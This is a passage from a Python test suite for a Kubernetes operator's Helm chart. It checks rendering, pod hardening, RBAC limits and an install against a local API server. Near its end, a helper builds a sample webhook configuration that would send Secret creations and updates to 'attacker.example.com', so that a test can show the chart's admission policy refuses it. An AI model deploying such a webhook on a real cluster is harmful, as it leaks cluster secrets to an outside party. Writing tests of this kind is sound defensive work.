"""The Helm chart, with the real Helm (built from its Go module) and the real API server.

Three layers:

- ``helm lint`` and ``helm template`` of default and non-default values, parsed and checked:
  hardened pods, no cluster-wide Secret access, and settings that exist in the settings classes
  (a renamed setting breaks these tests, not a cluster).
- ``helm install`` into the local control plane: the API server accepts every object (no
  kubelet runs there, so no pod starts; that is expected).
- The RBAC proof: the operator, the nginx agent and the tenancy gate run as processes with tokens
  of the chart's own ServiceAccounts and the chart's own settings, against pebble and a real
  nginx; a VirtualHost goes Ready and is served, then deleted and cleaned up, without a single
  refusal. What the chart must not allow (other namespaces' Secrets, other webhooks) is refused.
"""

from __future__ import annotations

import base64
import json
import re
import secrets
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from pydantic_settings import BaseSettings

from tests.harness import kube
from tests.harness.agent import AgentProcess
from tests.harness.audit import AuditedControlPlane, Grant, grants_of
from tests.harness.clusters import Cluster, install_crds
from tests.harness.gate import GateProcess
from tests.harness.helm import (
    CHART,
    Helm,
    Manifest,
    container,
    env_names,
    find,
    helm_binary,
    literal_env,
    one,
    parse_manifests,
)
from tests.harness.identities import can_i, kubectl_as, service_account_kubeconfig
from tests.harness.nginx import NginxServer, nginx_binary, self_signed_certificate
from tests.harness.nginx import served_certificate as served
from tests.harness.operator import OperatorProcess
from tests.harness.pebble import Pebble
from tests.harness.processes import free_port
from tests.harness.waiting import get_object, phase_of, wait_for
from vhost_operator.agent.settings import AgentSettings
from vhost_operator.nginx import SERVER_NAMES_HASH_BUCKET_SIZE, SiteConfig, render_final
from vhost_operator.resources.naming import site_configmap_name, tls_secret_name
from vhost_operator.settings import Settings
from vhost_operator.tenancy.settings import GateSettings

NON_DEFAULT_VALUES: dict[str, Any] = {
    "primaryHostnames": ["mail.example.net"],
    "acme": {
        "enabled": True,
        "email": "hostmaster@example.com",
        "eab": {"keyId": "kid-1", "hmacKeySecretName": "acme-eab"},
        "caBundleConfigMapName": "private-ca",
    },
    "nginx": {"enabled": True, "namespace": "web"},
    "webhook": {"certSecretName": "webhook-tls"},
    "gate": {"enabled": True, "theme": {"primary": "#1a73e8"}},
}

SETTINGS_NOT_IN_CHART: dict[str, str] = {
    # setting name -> why the chart has no value for it (operator.extraEnv can still set it).
}

# -- helm itself ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def helm() -> Helm:
    return Helm(helm_binary())


def test_helm_is_the_pinned_version(helm: Helm) -> None:
    pinned = re.search(
        r"^require helm.sh/helm/v3 (v\S+)$",
        (CHART.parents[1] / "hack" / "helm" / "go.mod").read_text(),
        re.MULTILINE,
    )
    assert pinned is not None
    assert helm.run("version", "--template", "{{.Version}}").stdout.strip() == pinned[1]


@pytest.mark.parametrize("strict", [False, True], ids=["lint", "lint-strict"])
def test_helm_lint_is_clean(helm: Helm, strict: bool) -> None:
    for values in ({}, NON_DEFAULT_VALUES):
        args = ["lint", str(CHART), "--values", str(helm.values_file(values))]
        linted = helm.run(*args, *(["--strict"] if strict else []))
        findings = [
            line
            for line in linted.stdout.splitlines()
            if line.startswith("[") and not line.startswith("[INFO] Chart.yaml: icon")
        ]
        assert findings == [], linted.stdout


def test_values_schema_refuses_typos_and_bad_values(helm: Helm) -> None:
    for bad in (
        {"nginx": {"enabeld": True}},
        {"acme": {"renewalFraction": 1.5}},
        {"gate": {"theme": {"primary": "red;}"}}},
        {"operator": {"logFormat": "xml"}},
    ):
        refused = helm.run(
            "template", "x", str(CHART), "--values", str(helm.values_file(bad)), check=False
        )
        assert refused.returncode != 0, bad
        assert "values don't meet the specifications of the schema" in refused.stderr, bad


def test_nginx_never_runs_in_the_release_namespace(helm: Helm) -> None:
    """The internet-facing nginx pod's agent may list every Secret of its namespace: by default
    that must not be the release namespace (ACME account key, EAB key, Helm's release Secrets),
    and naming the release namespace is refused."""
    manifests = helm.template({"nginx": {"enabled": True}}, namespace="mail-system")
    agent_role = one(manifests, "Role", "vhost-operator-nginx-agent")
    assert agent_role["metadata"]["namespace"] == "mail-system-nginx"
    created = one(manifests, "Namespace", "mail-system-nginx")
    assert created["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] == "restricted"
    assert created["metadata"]["annotations"]["helm.sh/resource-policy"] == "keep"
    for kind, name in (("Deployment", "vhost-operator-nginx"), ("Role", "vhost-operator")):
        assert one(manifests, kind, name)["metadata"]["namespace"] == "mail-system-nginx"
    operator = literal_env(container(one(manifests, "Deployment", "vhost-operator"), "operator"))
    assert operator["VHOST_OPERATOR_NGINX_NAMESPACE"] == "mail-system-nginx"

    values = {"nginx": {"enabled": True, "namespace": "mail-system"}}
    refused = helm.run(
        "template",
        "x",
        str(CHART),
        "--namespace",
        "mail-system",
        "--values",
        str(helm.values_file(values)),
        check=False,
    )
    assert refused.returncode != 0
    assert "nginx.namespace must not be the release namespace mail-system" in refused.stderr


def test_an_unpinned_nginx_image_is_refused(helm: Helm) -> None:
    values = {"nginx": {"enabled": True, "image": {"repository": "nginx"}}}
    refused = helm.run(
        "template", "x", str(CHART), "--values", str(helm.values_file(values)), check=False
    )
    assert refused.returncode != 0
    assert "nginx.image.repository needs nginx.image.tag or nginx.image.digest" in refused.stderr


# -- helm template: what the chart renders ------------------------------------------------------


@pytest.fixture(scope="module")
def default_manifests(helm: Helm) -> list[Manifest]:
    return helm.template()


@pytest.fixture(scope="module")
def full_manifests(helm: Helm) -> list[Manifest]:
    return helm.template(NON_DEFAULT_VALUES)


def pod_specs(manifests: list[Manifest]) -> list[tuple[str, Manifest]]:
    found = []
    for manifest in manifests:
        if manifest["kind"] == "Deployment":
            found.append((manifest["metadata"]["name"], manifest["spec"]["template"]["spec"]))
        elif manifest["kind"] == "Pod":
            found.append((manifest["metadata"]["name"], manifest["spec"]))
    return found


def test_default_install_is_the_operator_alone(default_manifests: list[Manifest]) -> None:
    kinds = sorted(m["kind"] for m in default_manifests)
    assert kinds == [
        "ClusterRole",
        "ClusterRoleBinding",
        "Deployment",
        "Namespace",  # nginx's, apart from the release's (empty while nginx and ACME are off)
        "Pod",  # the chart test (a hook: `helm test` creates it, install does not)
        "Role",  # deleting a host's nginx objects
        "Role",  # Events
        "RoleBinding",
        "RoleBinding",
        "Service",  # metrics
        "Service",  # webhook
        "ServiceAccount",
        "ValidatingAdmissionPolicy",
        "ValidatingAdmissionPolicyBinding",
    ]
    deployment = one(default_manifests, "Deployment")
    assert deployment["spec"]["replicas"] == 1
    # Nothing to write with ACME and nginx off; only leftovers of earlier settings to delete.
    nginx_role = one(default_manifests, "Role", "vhost-operator")
    assert [(r["resources"], r["verbs"]) for r in rules_of(nginx_role)] == [
        (["configmaps"], ["get", "delete"]),
        (["secrets"], ["get", "delete"]),
    ]
    assert deployment["spec"]["strategy"] == {"type": "Recreate"}


@pytest.mark.parametrize("which", ["default", "full"])
def test_every_pod_is_hardened(
    which: str, default_manifests: list[Manifest], full_manifests: list[Manifest]
) -> None:
    manifests = default_manifests if which == "default" else full_manifests
    for name, spec in pod_specs(manifests):
        pod_context = spec["securityContext"]
        assert pod_context["runAsNonRoot"] is True, name
        assert isinstance(pod_context["runAsUser"], int) and pod_context["runAsUser"] > 0, name
        assert pod_context["seccompProfile"] == {"type": "RuntimeDefault"}, name
        for each in spec["containers"]:
            context = each["securityContext"]
            where = f"{name}/{each['name']}"
            assert context["readOnlyRootFilesystem"] is True, where
            assert context["allowPrivilegeEscalation"] is False, where
            assert context["capabilities"] == {"drop": ["ALL"]}, where
            assert each["resources"]["requests"] and each["resources"]["limits"], where
            image = each["image"]
            assert "@sha256:" in image or re.search(r":[\w.-]+$", image), where
            assert not image.endswith(":latest"), where


def test_only_the_pods_that_call_the_api_get_a_token(full_manifests: list[Manifest]) -> None:
    for account in find(full_manifests, "ServiceAccount"):
        assert account["automountServiceAccountToken"] is False
    tokens = {
        name: spec.get("automountServiceAccountToken") for name, spec in pod_specs(full_manifests)
    }
    assert tokens == {
        "vhost-operator": True,
        "vhost-operator-nginx": False,  # the agent container alone mounts a projected token
        "vhost-operator-gate": True,
        "vhost-operator-test": False,
    }
    nginx = one(full_manifests, "Deployment", "vhost-operator-nginx")
    mounts = {
        c["name"]: {m["name"] for m in c["volumeMounts"]}
        for c in nginx["spec"]["template"]["spec"]["containers"]
    }
    assert "agent-token" in mounts["agent"]
    assert "agent-token" not in mounts["nginx"]


def rules_of(manifest: Manifest) -> list[dict[str, Any]]:
    rules: list[dict[str, Any]] = manifest.get("rules") or []
    return rules


def test_no_cluster_wide_secret_or_configmap_access(full_manifests: list[Manifest]) -> None:
    for role in find(full_manifests, "ClusterRole"):
        for rule in rules_of(role):
            assert "*" not in rule["verbs"] and "*" not in rule["resources"], rule
            assert "*" not in rule["apiGroups"], rule
            assert not {"secrets", "configmaps"} & set(rule["resources"]), rule


def test_secrets_only_in_the_nginx_namespace_and_the_account_secret(
    full_manifests: list[Manifest],
) -> None:
    secret_rules = {
        (role["metadata"]["namespace"], role["metadata"]["name"]): rule
        for role in find(full_manifests, "Role")
        for rule in rules_of(role)
        if "secrets" in rule["resources"]
    }
    assert secret_rules == {
        ("web", "vhost-operator"): {
            "apiGroups": [""],
            "resources": ["secrets"],
            "verbs": ["get", "create", "patch", "delete"],
        },
        ("vhost-operator", "vhost-operator-acme-account"): {
            "apiGroups": [""],
            "resources": ["secrets"],
            "resourceNames": ["vhost-operator-acme-account"],
            "verbs": ["get", "create", "patch"],
        },
        ("web", "vhost-operator-nginx-agent"): {
            "apiGroups": [""],
            "resources": ["secrets"],
            "verbs": ["list", "watch"],
        },
    }


def test_webhook_configuration_rights_are_narrowed(full_manifests: list[Manifest]) -> None:
    webhook_rules = [
        rule
        for rule in rules_of(one(full_manifests, "ClusterRole", "vhost-operator"))
        if rule["apiGroups"] == ["admissionregistration.k8s.io"]
    ]
    configurations = ["validatingwebhookconfigurations", "mutatingwebhookconfigurations"]
    assert webhook_rules == [
        {
            "apiGroups": ["admissionregistration.k8s.io"],
            "resources": configurations,
            "verbs": ["create"],
        },
        {
            "apiGroups": ["admissionregistration.k8s.io"],
            "resources": configurations,
            "resourceNames": ["vhost-operator.io"],
            "verbs": ["patch"],
        },
    ]
    policy = one(full_manifests, "ValidatingAdmissionPolicy")
    condition = policy["spec"]["matchConditions"][0]["expression"]
    assert "system:serviceaccount:vhost-operator:vhost-operator" in condition
    binding = one(full_manifests, "ValidatingAdmissionPolicyBinding")
    assert binding["spec"] == {
        "policyName": policy["metadata"]["name"],
        "validationActions": ["Deny"],
    }


def check_env_against(
    settings_class: type[BaseSettings], container_spec: Manifest, monkeypatch: pytest.MonkeyPatch
) -> BaseSettings:
    """Every variable is a field of ``settings_class``, and the literal values parse."""
    prefix = str(settings_class.model_config.get("env_prefix"))
    names = env_names(container_spec)
    unknown = [
        n for n in names if n.removeprefix(prefix).lower() not in settings_class.model_fields
    ]
    assert not unknown, f"{container_spec['name']}: no such {settings_class.__name__} fields"
    assert len(names) == len(set(names)), f"{container_spec['name']}: duplicate variables"
    for name, value in literal_env(container_spec).items():
        monkeypatch.setenv(name, value)
    for entry in container_spec.get("env", []):
        if "valueFrom" in entry:
            monkeypatch.setenv(entry["name"], "from-a-reference")
    return settings_class()


def test_env_names_are_settings_and_their_values_parse(
    full_manifests: list[Manifest], monkeypatch: pytest.MonkeyPatch
) -> None:
    operator = container(one(full_manifests, "Deployment", "vhost-operator"), "operator")
    agent = container(one(full_manifests, "Deployment", "vhost-operator-nginx"), "agent")
    gate = container(one(full_manifests, "Deployment", "vhost-operator-gate"), "gate")
    with monkeypatch.context() as scope:
        settings = check_env_against(Settings, operator, scope)
    assert isinstance(settings, Settings)
    assert settings.primary_hostnames == ("mail.example.net",)
    assert settings.nginx_namespace == "web"
    with monkeypatch.context() as scope:
        check_env_against(AgentSettings, agent, scope)
    with monkeypatch.context() as scope:
        gate_settings = check_env_against(GateSettings, gate, scope)
    assert isinstance(gate_settings, GateSettings)
    assert gate_settings.primary_hostnames == ("mail.example.net",)


def test_every_operator_setting_is_a_value(full_manifests: list[Manifest]) -> None:
    operator = container(one(full_manifests, "Deployment", "vhost-operator"), "operator")
    rendered = {n.removeprefix("VHOST_OPERATOR_").lower() for n in env_names(operator)}
    # Set only when their value is set (absent = the operator's default): see values.yaml.
    optional = {"acme_ca_bundle", "self_check_address", "webhook_cert_dir"}
    missing = set(Settings.model_fields) - rendered - optional - set(SETTINGS_NOT_IN_CHART)
    assert not missing, (
        f"settings {sorted(missing)} have no chart value: add them to values.yaml, "
        "values.schema.json and templates/operator/deployment.yaml"
    )


def test_optional_settings_appear_when_set(helm: Helm) -> None:
    manifests = helm.template(
        {
            "acme": {
                "enabled": True,
                "caBundleConfigMapName": "private-ca",
                "selfCheckAddress": "http://nginx.web.svc:80",
            },
            "webhook": {"certSecretName": "webhook-tls"},
        }
    )
    deployment = one(manifests, "Deployment", "vhost-operator")
    env = literal_env(container(deployment, "operator"))
    assert env["VHOST_OPERATOR_ACME_CA_BUNDLE"] == "/etc/vhost-operator/acme-ca/ca.crt"
    assert env["VHOST_OPERATOR_SELF_CHECK_ADDRESS"] == "http://nginx.web.svc:80"
    assert env["VHOST_OPERATOR_WEBHOOK_CERT_DIR"] == "/etc/vhost-operator/webhook-tls"
    volumes = {v["name"]: v for v in deployment["spec"]["template"]["spec"]["volumes"]}
    assert volumes["acme-ca"]["configMap"]["name"] == "private-ca"
    assert volumes["webhook-tls"]["secret"]["secretName"] == "webhook-tls"


def test_webhook_host_calls_a_url_instead_of_the_service(helm: Helm) -> None:
    manifests = helm.template({"webhook": {"host": "webhook.example.net"}})
    env = literal_env(container(one(manifests, "Deployment", "vhost-operator"), "operator"))
    assert env["VHOST_OPERATOR_WEBHOOK_HOST"] == "webhook.example.net"
    assert "VHOST_OPERATOR_WEBHOOK_SERVICE" not in env


def test_nginx_node_ports_are_fixed_when_set(helm: Helm) -> None:
    nodeports = {"type": "NodePort", "nodePorts": {"http": 30080, "https": 30443}}
    for service, expected in (({"type": "ClusterIP"}, set()), (nodeports, {30080, 30443})):
        manifests = helm.template({"nginx": {"enabled": True, "service": service}})
        ports = one(manifests, "Service", "vhost-operator-nginx")["spec"]["ports"]
        assert {p["nodePort"] for p in ports if "nodePort" in p} == expected


def test_eab_mac_key_comes_from_a_secret(full_manifests: list[Manifest]) -> None:
    operator = container(one(full_manifests, "Deployment", "vhost-operator"), "operator")
    entries = {e["name"]: e for e in operator["env"]}
    assert entries["VHOST_OPERATOR_ACME_EAB_KID"]["value"] == "kid-1"
    assert entries["VHOST_OPERATOR_ACME_EAB_HMAC_KEY"] == {
        "name": "VHOST_OPERATOR_ACME_EAB_HMAC_KEY",
        "valueFrom": {"secretKeyRef": {"name": "acme-eab", "key": "hmacKey"}},
    }


def test_services_match_what_the_operator_is_told(full_manifests: list[Manifest]) -> None:
    env = literal_env(container(one(full_manifests, "Deployment", "vhost-operator"), "operator"))
    webhook = one(full_manifests, "Service", "vhost-operator-webhook")
    challenges = one(full_manifests, "Service", "vhost-operator-challenges")
    nginx = one(full_manifests, "Service", "vhost-operator-nginx")
    # The webhook configuration names the Service (the API server resolves it without DNS)
    # and the API server checks the certificate for the Service's DNS name.
    assert env["VHOST_OPERATOR_WEBHOOK_SERVICE"] == "vhost-operator/vhost-operator-webhook"
    assert env["VHOST_OPERATOR_WEBHOOK_HOST"] == "vhost-operator-webhook.vhost-operator.svc"
    # The API server calls the Service on the listening port: the Service must answer on it.
    assert webhook["spec"]["ports"][0]["port"] == int(env["VHOST_OPERATOR_WEBHOOK_PORT"])
    port = challenges["spec"]["ports"][0]["port"]
    assert env["VHOST_OPERATOR_CHALLENGE_UPSTREAM"] == (
        f"vhost-operator-challenges.vhost-operator.svc:{port}"
    )
    assert port == int(env["VHOST_OPERATOR_CHALLENGE_LISTEN_PORT"])
    https = next(p for p in nginx["spec"]["ports"] if p["name"] == "https")
    assert (
        env["VHOST_OPERATOR_NGINX_PROBE_ADDRESS"] == f"vhost-operator-nginx.web.svc:{https['port']}"
    )
    for service in (webhook, challenges):
        assert service["spec"]["selector"]["app.kubernetes.io/component"] == "operator"


def test_agent_and_operator_agree_on_paths(full_manifests: list[Manifest]) -> None:
    deployment = one(full_manifests, "Deployment", "vhost-operator-nginx")
    spec = deployment["spec"]["template"]["spec"]
    assert spec["shareProcessNamespace"] is True  # the agent signals nginx and reads /proc
    agent = literal_env(container(deployment, "agent"))
    operator = literal_env(
        container(one(full_manifests, "Deployment", "vhost-operator"), "operator")
    )
    assert (
        operator["VHOST_OPERATOR_NGINX_CERTIFICATE_DIR"] == agent["VHOST_AGENT_ROOT_DIR"] + "/certs"
    )
    assert agent["VHOST_AGENT_NAMESPACE"] == operator["VHOST_OPERATOR_NGINX_NAMESPACE"] == "web"
    nginx = container(deployment, "nginx")
    assert nginx["command"] == ["nginx"]
    conf_arg = nginx["args"][nginx["args"].index("-c") + 1]
    assert conf_arg == agent["VHOST_AGENT_NGINX_CONF"]
    conf = one(full_manifests, "ConfigMap")["data"]["nginx.conf"]
    assert f"pid {agent['VHOST_AGENT_NGINX_PID_FILE']};" in conf
    assert f"include {agent['VHOST_AGENT_ROOT_DIR']}/sites-enabled/*.conf;" in conf
    assert f"server_names_hash_bucket_size {SERVER_NAMES_HASH_BUCKET_SIZE};" in conf
    # Both containers see the pid file's directory and the sites.
    mounts = {c["name"]: {m["mountPath"] for m in c["volumeMounts"]} for c in spec["containers"]}
    for path in ("/run/nginx", agent["VHOST_AGENT_ROOT_DIR"], "/etc/vhost-operator/nginx"):
        assert path in mounts["nginx"] and path in mounts["agent"], path
    # Ports 80/443 for a non-root nginx (and the agent's `nginx -t`) through a safe sysctl.
    assert {"name": "net.ipv4.ip_unprivileged_port_start", "value": "0"} in spec["securityContext"][
        "sysctls"
    ]


def test_the_nginx_conf_and_a_site_pass_nginx_t(helm: Helm, tmp_path: Path) -> None:
    root = tmp_path / "agent-root"
    http_port, https_port = free_port(), free_port()
    manifests = helm.template(
        {
            "nginx": {
                "enabled": True,
                "rootDir": str(root),
                "httpPort": http_port,
                "httpsPort": https_port,
            }
        }
    )
    conf = tmp_path / "nginx.conf"
    text = one(manifests, "ConfigMap")["data"]["nginx.conf"]
    # `nginx -t` opens the pid file; in the pod /run/nginx is a shared emptyDir.
    assert "pid /run/nginx/nginx.pid;" in text
    conf.write_text(text.replace("/run/nginx/nginx.pid", str(tmp_path / "nginx.pid")))
    hostname = "mail.example.com"
    chain, key = self_signed_certificate([hostname])
    certs = root / "certs" / hostname
    certs.mkdir(parents=True)
    (certs / "tls.crt").write_bytes(chain)
    (certs / "tls.key").write_bytes(key)
    site = SiteConfig(
        hostname=hostname,
        challenge_upstream="127.0.0.1:8089",
        upstream="http://127.0.0.1:8000",
        http_port=http_port,
        https_port=https_port,
        certificate_path=str(certs / "tls.crt"),
        key_path=str(certs / "tls.key"),
    )
    (root / "sites-enabled").mkdir(parents=True)
    (root / "sites-enabled" / f"{hostname}.conf").write_text(render_final(site))
    checked = subprocess.run(
        [nginx_binary(), "-t", "-c", str(conf), "-e", "stderr"],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert checked.returncode == 0, checked.stderr


# -- helm install into the local control plane, and the RBAC proof ------------------------------
#
# With --cluster=local (the default) this part runs on a control plane of its own whose API server
# writes an audit log of the chart's ServiceAccounts: the proof then also shows that every
# permission the chart grants was used (minimal), not only that nothing was refused
# (sufficient). On other clusters it runs on the session's cluster, without the audit.

RELEASE = "chart-test"
OPERATOR_NS = "chart-operator"
WEB_NS = "chart-web"
OTHER_NS = "chart-other"
WEBHOOK_CONFIGURATION = "chart-test.vhost-operator.io"
FULLNAME = "chart-test-vhost-operator"
EAB_KID = "chart-kid"
DEFAULTS_RELEASE = "defaults"
DEFAULTS_NS = "chart-defaults"
DEFAULTS_NGINX_NS = f"{DEFAULTS_NS}-nginx"
"""The nginx namespace the chart makes by default (kept on uninstall: the test removes it)."""

GRANTS_THE_RUN_CANNOT_SHOW: dict[str, str] = {
    # Grant (as Grant.__str__ writes it) -> why the whole run below does not need it.
    "get vhost-operator.io/maildomains cluster-wide": (
        "provisioning/linking.py reads a MailDomain again only after its conditional write "
        "lost a race with another writer"
    ),
}


@pytest.fixture(scope="module")
def target(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Cluster, AuditedControlPlane | None]]:
    if request.config.getoption("--cluster") != "local":
        yield request.getfixturevalue("cluster"), None
        return
    groups = [f"system:serviceaccounts:{ns}" for ns in (OPERATOR_NS, WEB_NS, DEFAULTS_NS)]
    plane = AuditedControlPlane(tmp_path_factory.mktemp("audited-cluster"), groups)
    plane.start()
    try:
        install_crds(plane)
        yield plane, plane
    finally:
        plane.stop()


@dataclass
class Installed:
    cluster: Cluster
    audit: AuditedControlPlane | None
    helm: Helm
    manifests: list[Manifest]
    operator_kubeconfig: Path
    agent_kubeconfig: Path
    gate_kubeconfig: Path
    nginx: NginxServer
    pebble: Pebble
    operator: OperatorProcess | None = None
    agent: AgentProcess | None = None
    gate: GateProcess | None = None

    def deployment_env(self, name: str, container_name: str) -> dict[str, str]:
        deployment = one(self.manifests, "Deployment", name)
        spec = container(deployment, container_name)
        env = literal_env(spec)
        # What kubelet does for a pod: resolve Secret references.
        for entry in spec.get("env", []):
            reference = entry.get("valueFrom", {}).get("secretKeyRef")
            if reference:
                found = self.cluster.kubectl(
                    "get", "secret", reference["name"], "-n", OPERATOR_NS, "-o", "json"
                )
                data = json.loads(found.stdout)["data"][reference["key"]]
                env[entry["name"]] = base64.b64decode(data).decode()
        return env

    def processes(self) -> list[tuple[str, OperatorProcess | AgentProcess | GateProcess]]:
        candidates = (("operator", self.operator), ("agent", self.agent), ("gate", self.gate))
        return [(name, process) for name, process in candidates if process is not None]

    def logs(self) -> str:
        return "\n".join(f"===== {name} =====\n{p.log()}" for name, p in self.processes())


RESTRICTED = {
    f"pod-security.kubernetes.io/{mode}": "restricted" for mode in ("enforce", "warn", "audit")
}
"""Pod Security's strictest profile: the API server warns about any workload that breaks it."""


def namespace(name: str) -> Manifest:
    return {
        "apiVersion": "v1",
        "kind": "Namespace",
        "metadata": {"name": name, "labels": RESTRICTED},
    }


def secret(name: str, namespace_name: str, data: dict[str, str]) -> Manifest:
    return {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": name, "namespace": namespace_name},
        "stringData": data,
    }


def install_values(pebble: Pebble, nginx: NginxServer) -> dict[str, Any]:
    """Non-default values a user would set, plus the few that point at local processes: the
    webhook host (the API server calls the process on 127.0.0.1), the ports and nginx's
    directory of the harness's nginx."""
    return {
        "primaryHostnames": ["mail.example.net"],
        "acme": {
            "enabled": True,
            "directoryUrl": pebble.directory_url,
            "email": "hostmaster@example.com",
            "eab": {"keyId": EAB_KID, "hmacKeySecretName": "acme-eab"},
            "caBundleConfigMapName": "pebble-ca",
            "orderTimeout": 30,
            "challengePort": free_port(),
            "selfCheckAddress": f"http://127.0.0.1:{nginx.http_port}",
        },
        "webhook": {
            "configurationName": WEBHOOK_CONFIGURATION,
            "host": "127.0.0.1",
            "port": free_port(),
        },
        "nginx": {
            "enabled": True,
            "namespace": WEB_NS,
            "createNamespace": False,  # made by the test, with the Pod Security labels
            "upstream": f"http://127.0.0.1:{free_port()}",
            "httpPort": nginx.http_port,
            "httpsPort": nginx.https_port,
            "rootDir": str(nginx.root),
            "applyTimeout": 30,
        },
        "gate": {"enabled": True},
    }


@pytest.fixture(scope="module")
def installed(
    target: tuple[Cluster, AuditedControlPlane | None],
    helm: Helm,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Installed]:
    cluster, audit = target
    workdir = tmp_path_factory.mktemp("chart")
    mac_key = base64.urlsafe_b64encode(secrets.token_bytes(32)).decode().rstrip("=")
    kube.apply_manifests(
        cluster,
        [
            namespace(OPERATOR_NS),
            namespace(WEB_NS),
            namespace(OTHER_NS),
            secret("acme-eab", OPERATOR_NS, {"hmacKey": mac_key}),
            secret("unrelated", OTHER_NS, {"password": "not for the operator"}),
        ],
        workdir,
    )
    release_helm = Helm(helm.binary, cluster.kubeconfig)
    nginx = NginxServer(workdir / "nginx", free_port(), free_port())
    # pebble validates HTTP-01 through nginx, which proxies to the operator's responder.
    pebble = Pebble(http_port=nginx.http_port, eab_keys={EAB_KID: mac_key}, workdir=workdir / "ca")
    state: Installed | None = None
    try:
        nginx.start()
        pebble.start()
        installing = release_helm.run(
            "install",
            RELEASE,
            str(CHART),
            "--namespace",
            OPERATOR_NS,
            "--values",
            str(release_helm.values_file(install_values(pebble, nginx))),
        )
        # No warning at all, in particular none of Pod Security's "would violate".
        assert installing.stderr.strip() == "", installing.stderr
        manifest = release_helm.run("get", "manifest", RELEASE, "--namespace", OPERATOR_NS)
        state = Installed(
            cluster=cluster,
            audit=audit,
            helm=release_helm,
            manifests=parse_manifests(manifest.stdout),
            operator_kubeconfig=service_account_kubeconfig(
                cluster, OPERATOR_NS, FULLNAME, workdir / "operator.kubeconfig"
            ),
            agent_kubeconfig=service_account_kubeconfig(
                cluster, WEB_NS, f"{FULLNAME}-nginx", workdir / "agent.kubeconfig"
            ),
            gate_kubeconfig=service_account_kubeconfig(
                cluster, OPERATOR_NS, f"{FULLNAME}-gate", workdir / "gate.kubeconfig"
            ),
            nginx=nginx,
            pebble=pebble,
        )
        yield state
    finally:
        if state is not None and state.operator is not None:
            # The operator's finalizers clean up while it still runs.
            cluster.kubectl("delete", "md,vh", "--all", "--wait=true", "--timeout=60s", check=False)
        for _, process in state.processes() if state else ():
            process.stop()
        pebble.stop()
        nginx.stop()
        if audit is None:  # a shared cluster: leave nothing behind
            release_helm.run("uninstall", RELEASE, "--namespace", OPERATOR_NS, check=False)
            for kind in ("validatingwebhookconfiguration", "mutatingwebhookconfiguration"):
                # kopf empties them when it stops, but never deletes them.
                cluster.kubectl(
                    "delete", kind, WEBHOOK_CONFIGURATION, "--ignore-not-found", check=False
                )
            for name in (OPERATOR_NS, WEB_NS, OTHER_NS):
                cluster.kubectl("delete", "namespace", name, "--wait=false", check=False)


@pytest.mark.cluster
def test_the_api_server_accepts_every_object(installed: Installed) -> None:
    status = installed.helm.run("status", RELEASE, "--namespace", OPERATOR_NS, "-o", "json")
    assert json.loads(status.stdout)["info"]["status"] == "deployed"
    for manifest in installed.manifests:
        metadata = manifest["metadata"]
        where = ["-n", metadata["namespace"]] if "namespace" in metadata else []
        kind = manifest["kind"].lower()
        found = installed.cluster.kubectl("get", kind, metadata["name"], *where, "-o", "name")
        assert found.stdout.strip(), f"{kind} {metadata['name']} is missing"
    kinds = {m["kind"] for m in installed.manifests}
    assert {"Deployment", "ValidatingAdmissionPolicy", "Role", "ClusterRole"} <= kinds
    notes = installed.helm.run("get", "notes", RELEASE, "--namespace", OPERATOR_NS).stdout
    assert "kubectl get vh" in notes
    assert f"nginx with its agent in namespace {WEB_NS}" in notes


@pytest.mark.cluster
def test_the_chart_accounts_are_refused_what_they_must_not_do(installed: Installed) -> None:
    cluster, identity = installed.cluster, installed.operator_kubeconfig
    assert can_i(cluster, identity, "get", "secrets", "--namespace", WEB_NS)
    assert can_i(cluster, identity, "patch", f"secrets/{FULLNAME}-acme-account", "-n", OPERATOR_NS)
    denied = [
        ("get", "secrets", "--namespace", OTHER_NS),
        ("list", "secrets", "--all-namespaces"),
        ("watch", "secrets", "--all-namespaces"),
        ("get", "secrets/acme-eab", "--namespace", OPERATOR_NS),  # kubelet's, not the operator's
        ("list", "secrets", "--namespace", OPERATOR_NS),
        ("create", "secrets/another", "--namespace", OPERATOR_NS),
        ("list", "configmaps", "--all-namespaces"),
        ("delete", "virtualhosts.vhost-operator.io"),
        ("update", "virtualhosts.vhost-operator.io"),
        ("patch", "validatingwebhookconfigurations/another"),
        ("delete", f"validatingwebhookconfigurations/{WEBHOOK_CONFIGURATION}"),
        ("create", "events", "--namespace", OTHER_NS),
        ("list", "namespaces"),
        ("list", "pods", "--all-namespaces"),
        ("create", "clusterrolebindings"),
    ]
    allowed = [query for query in denied if can_i(cluster, identity, *query)]
    assert allowed == []
    refused = kubectl_as(
        cluster, identity, "get", "secret", "unrelated", "-n", OTHER_NS, check=False
    )
    assert refused.returncode != 0
    assert "Forbidden" in refused.stderr and "cannot get resource" in refused.stderr
    for account in (installed.agent_kubeconfig, installed.gate_kubeconfig):
        assert not can_i(cluster, account, "get", "secrets", "--namespace", OTHER_NS)
        assert not can_i(cluster, account, "list", "secrets", "--all-namespaces")
    assert not can_i(cluster, installed.agent_kubeconfig, "delete", "configmaps", "-n", WEB_NS)
    assert not can_i(cluster, installed.agent_kubeconfig, "get", "secrets", "-n", OPERATOR_NS)
    assert not can_i(cluster, installed.gate_kubeconfig, "patch", "virtualhosts.vhost-operator.io")


def webhook_configuration(
    name: str, resources: list[str], group: str, kind: str = "ValidatingWebhookConfiguration"
) -> Manifest:
    return {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": kind,
        "metadata": {"name": name},
        "webhooks": [
            {
                "name": "steal.example.com",
                "admissionReviewVersions": ["v1"],
                "sideEffects": "None",
                "failurePolicy": "Ignore",
                "clientConfig": {"url": "https://attacker.example.com/"},
                "rules": [
                    {
                        "apiGroups": [group],
                        "apiVersions": ["v1"],
                        "operations": ["CREATE", "UPDATE"],
                        "resources": resources,
                    }
                ],
            }
        ],
    }


@pytest.mark.cluster
def test_the_webhook_guard_confines_the_create_permission(
    installed: Installed, tmp_path: Path
) -> None:
    """RBAC lets the operator create any webhook configuration (a create cannot be limited by
    name); the chart's ValidatingAdmissionPolicy refuses all but its own."""
    mutating = "MutatingWebhookConfiguration"
    attempts = {
        "another name": webhook_configuration("steal-secrets", ["secrets"], ""),
